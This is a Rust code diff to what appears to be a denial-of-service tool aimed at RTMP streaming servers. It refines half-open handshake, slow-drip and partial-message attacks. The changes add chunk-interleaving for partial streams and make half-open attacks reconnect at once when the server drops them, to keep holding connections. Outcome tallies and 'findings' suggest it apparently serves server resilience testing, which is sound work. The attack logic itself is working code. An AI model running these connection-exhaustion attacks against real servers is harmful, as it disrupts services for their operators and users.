@@ -51,6 +51,21 @@ impl EndlessMessage {
         }
     }
 
+    /// Completes the chunk under way (so another chunk stream may be interleaved after
+    /// it), short of the message's last byte.
+    pub fn finish_chunk(&mut self, out: &mut Vec<u8>) {
+        if self.header_sent < self.header.len() || self.need_continuation || self.body_sent + 1 >= self.len {
+            return;
+        }
+        let to_boundary = CHUNK - self.body_sent % CHUNK;
+        let take = to_boundary.min(self.len - 1 - self.body_sent);
+        out.resize(out.len() + take as usize, 0);
+        self.body_sent += take;
+        if self.body_sent.is_multiple_of(CHUNK) {
+            self.need_continuation = true;
+        }
+    }
+
     /// Appends up to `n` more bytes of the stream to `out`; fewer when the message is one
     /// byte from complete.
     pub fn fill(&mut self, n: usize, out: &mut Vec<u8>) {
@@ -131,97 +146,107 @@ pub(super) async fn hold(kind: AttackKind, target: SocketAddr, params: &AttackPa
             if !stop.sleep(start_delay(i, p.rate)).await {
                 return;
             }
-            let Some((mut s, mut guard)) = connect(target, p.source, &tally).await else { return };
-            let mut out = Vec::new();
-            let setup = async {
-                match kind {
-                    AttackKind::RtmpHalfOpen => {
-                        // C0 and a tenth of C1.
-                        let mut c0c1 = vec![3u8; 1 + 153];
-                        c0c1[1..].iter_mut().enumerate().for_each(|(j, b)| *b = (j * 7) as u8);
-                        s.write_all(&c0c1).await?;
-                        Ok(c0c1.len())
+            // Half-open handshakes are closed at the handshake timeout: the attacker
+            // opens another at once, to keep its share of the connections.
+            loop {
+                let Some((mut s, mut guard)) = connect(target, p.source, &tally).await else { return };
+                let mut out = Vec::new();
+                let setup = async {
+                    match kind {
+                        AttackKind::RtmpHalfOpen => {
+                            // C0 and a tenth of C1.
+                            let mut c0c1 = vec![3u8; 1 + 153];
+                            c0c1[1..].iter_mut().enumerate().for_each(|(j, b)| *b = (j * 7) as u8);
+                            s.write_all(&c0c1).await?;
+                            Ok(c0c1.len())
+                        }
+                        _ => tokio::time::timeout(ATTEMPT_TIMEOUT, rtmp_handshake(&mut s)).await?,
                     }
-                    _ => tokio::time::timeout(ATTEMPT_TIMEOUT, rtmp_handshake(&mut s)).await?,
-                }
-            };
-            match setup.await {
-                Ok(n) => tally.sent(n),
-                Err(e) => {
-                    tally.outcome(format!("handshake: {}", short(&e.to_string())));
-                    return;
-                }
-            }
-            let by_server = match kind {
-                AttackKind::RtmpDrip => {
-                    let mut msg = EndlessMessage::new(3, 4096);
-                    loop {
-                        out.clear();
-                        msg.fill(DRIP_BYTES, &mut out);
-                        if out.is_empty() {
-                            msg = EndlessMessage::new(4, 4096);
-                            msg.fill(DRIP_BYTES, &mut out);
-                        }
-                        if s.write_all(&out).await.is_err() {
-                            break true;
-                        }
-                        tally.sent(out.len());
-                        match closed_or_stopped(&mut s, &mut stop, Some(p.interval.max(Duration::from_millis(100))))
-                            .await
-                        {
-                            Some(by_server) => break by_server,
-                            None => continue,
-                        }
+                };
+                match setup.await {
+                    Ok(n) => tally.sent(n),
+                    Err(e) => {
+                        tally.outcome(format!("handshake: {}", short(&e.to_string())));
+                        return;
                     }
                 }
-                AttackKind::RtmpPartial => {
-                    let mut msgs: Vec<EndlessMessage> =
-                        (0..PARTIAL_STREAMS).map(|c| EndlessMessage::new(3 + c as u8, MAX_MESSAGE)).collect();
-                    let mut budget = p.partial_bytes;
-                    let mut broke = false;
-                    'send: while budget > 0 && !stop.done() {
-                        for m in &mut msgs {
+                let by_server = match kind {
+                    AttackKind::RtmpDrip => {
+                        let mut msg = EndlessMessage::new(3, 4096);
+                        loop {
                             out.clear();
-                            m.fill(WRITE_BLOCK.min(budget as usize), &mut out);
+                            msg.fill(DRIP_BYTES, &mut out);
                             if out.is_empty() {
-                                continue;
+                                msg = EndlessMessage::new(4, 4096);
+                                msg.fill(DRIP_BYTES, &mut out);
                             }
-                            let w = tokio::select! {
-                                w = s.write_all(&out) => w,
-                                _ = stop.wait() => break 'send,
-                            };
-                            if w.is_err() {
-                                broke = true;
-                                break 'send;
+                            if s.write_all(&out).await.is_err() {
+                                break true;
                             }
                             tally.sent(out.len());
-                            budget = budget.saturating_sub(out.len() as u64);
-                        }
-                        if msgs.iter().all(|m| m.body_sent + 1 >= m.len) {
-                            break;
+                            match closed_or_stopped(&mut s, &mut stop, Some(p.interval.max(Duration::from_millis(100))))
+                                .await
+                            {
+                                Some(by_server) => break by_server,
+                                None => continue,
+                            }
                         }
                     }
-                    if broke {
-                        true
-                    } else {
-                        closed_or_stopped(&mut s, &mut stop, None).await.unwrap_or(false)
+                    AttackKind::RtmpPartial => {
+                        let mut msgs: Vec<EndlessMessage> =
+                            (0..PARTIAL_STREAMS).map(|c| EndlessMessage::new(3 + c as u8, MAX_MESSAGE)).collect();
+                        let mut budget = p.partial_bytes;
+                        let mut broke = false;
+                        'send: while budget > 0 && !stop.done() {
+                            for m in &mut msgs {
+                                out.clear();
+                                m.fill(WRITE_BLOCK.min(budget as usize), &mut out);
+                                m.finish_chunk(&mut out);
+                                if out.is_empty() {
+                                    continue;
+                                }
+                                let w = tokio::select! {
+                                    w = s.write_all(&out) => w,
+                                    _ = stop.wait() => break 'send,
+                                };
+                                if w.is_err() {
+                                    broke = true;
+                                    break 'send;
+                                }
+                                tally.sent(out.len());
+                                budget = budget.saturating_sub(out.len() as u64);
+                            }
+                            if msgs.iter().all(|m| m.body_sent + 1 >= m.len) {
+                                break;
+                            }
+                        }
+                        if broke {
+                            true
+                        } else {
+                            closed_or_stopped(&mut s, &mut stop, None).await.unwrap_or(false)
+                        }
                     }
+                    _ => closed_or_stopped(&mut s, &mut stop, None).await.unwrap_or(false),
+                };
+                if by_server {
+                    tally.outcome("closed by the server");
+                } else {
+                    guard.held();
+                    tally.outcome("held");
                 }
-                _ => closed_or_stopped(&mut s, &mut stop, None).await.unwrap_or(false),
-            };
-            if by_server {
-                tally.outcome("closed by the server");
-            } else {
-                guard.held();
-                tally.outcome("held");
+                if kind != AttackKind::RtmpHalfOpen || stop.done() {
+                    return;
+                }
             }
         }));
     }
     join(tasks, tally).await;
 }
 
+/// An error as an outcome key: its start, digits masked so that one kind of error is
+/// one key whatever stream or port it names.
 fn short(s: &str) -> String {
-    s.chars().take(80).collect()
+    s.chars().take(100).map(|c| if c.is_ascii_digit() { 'N' } else { c }).collect()
 }
 
 /// `publishes`: one publish per connection of a distinct stream, held until the end.
@@ -311,7 +336,9 @@ pub(super) async fn link(kind: AttackKind, target: SocketAddr, params: &AttackPa
                         tally.sent(body + 5);
                         match closed_or_stopped(&mut s, &mut stop, Some(Duration::from_secs(2))).await {
                             Some(true) => {
-                                tally.outcome("closed after the whole frame");
+                                tally.finding(format!(
+                                    "a {body}-byte frame before Hello was read in whole before closing"
+                                ));
                                 true
                             }
                             _ => {
@@ -359,6 +386,19 @@ mod tests {
         let before = out.len();
         m.fill(100, &mut out);
         assert_eq!(out.len(), before, "the last byte is never sent");
+    }
+
+    #[test]
+    fn a_finished_chunk_ends_on_a_boundary_so_streams_can_interleave() {
+        let mut m = EndlessMessage::new(3, 1000);
+        let mut out = Vec::new();
+        m.fill(12 + 50, &mut out);
+        m.finish_chunk(&mut out);
+        assert_eq!(out.len(), 12 + 128);
+        m.finish_chunk(&mut out);
+        assert_eq!(out.len(), 12 + 128, "already on a boundary");
+        m.fill(1, &mut out);
+        assert_eq!(out.last(), Some(&0xC3));
     }
 
     #[test]
